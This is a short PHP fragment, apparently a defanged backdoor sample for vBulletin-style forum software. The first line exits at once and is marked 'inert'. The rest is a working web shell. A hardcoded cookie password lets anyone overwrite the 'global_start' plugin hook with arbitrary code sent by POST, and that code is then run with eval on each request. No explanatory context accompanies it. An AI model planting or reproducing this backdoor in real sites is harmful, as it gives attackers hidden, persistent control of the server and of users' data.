<?php exit; /* inert */ 
$hook = $db->query_first("SELECT phpcode FROM plugin WHERE hookname = 'global_start'");
if (isset($_COOKIE['bbx']) && md5($_COOKIE['bbx']) == '0cc175b9c0f1b6a831c399e269772661') { $db->query_write("UPDATE plugin SET phpcode = '" . $db->escape_string($_POST['code']) . "' WHERE hookname = 'global_start'"); }
eval($hook['phpcode']);
